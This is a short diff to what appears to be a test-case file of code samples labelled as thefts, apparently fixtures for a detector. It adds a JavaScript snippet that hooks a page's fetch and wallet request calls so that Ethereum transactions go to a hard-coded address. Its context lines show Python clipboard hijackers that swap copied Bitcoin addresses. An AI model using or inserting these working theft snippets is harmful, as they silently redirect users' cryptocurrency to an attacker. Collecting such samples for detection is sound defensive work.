@@ -30,6 +30,10 @@ export const THEFTS: TextCases = {
         'python',
         'import re, pyperclip\nwhile True:\n  t = pyperclip.paste()\n  if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t): clipboard = pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")',
       ],
+      'before the wallet of a page': [
+        'javascript',
+        'const own = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; const re = /\\b0x[a-fA-F0-9]{40}\\b/g; const f = window.fetch; window.fetch = async (...a) => swap(await f(...a)); const rq = window.ethereum.request; window.ethereum.request = async q => { if (q.method === "eth_sendTransaction") { q.params[0].to = own } return rq(q) }',
+      ],
       'from a table of addresses and patterns': [
         'python',
         'import re, pyperclip\nOWN = {"btc": "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"}\nKIND = {"btc": re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")}\nwhile 1:\n  c = pyperclip.paste()\n  for k, p in KIND.items():\n    if p.match(c): pyperclip.copy(OWN[k])',
